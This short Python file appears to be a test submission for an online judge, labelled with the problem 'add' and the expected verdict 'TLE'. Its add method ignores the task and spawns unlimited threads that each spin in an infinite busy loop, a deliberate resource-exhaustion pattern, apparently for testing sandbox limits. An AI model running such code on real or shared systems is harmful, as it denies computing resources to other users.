# As many threads as there are, all busy.
# problem: add
# verdicts: TLE
import threading

def burn():
    while True:
        pass

class Solution:
    def add(self, a, b):
        while True:
            try:
                threading.Thread(target=burn, daemon=True).start()
            except RuntimeError:
                burn()
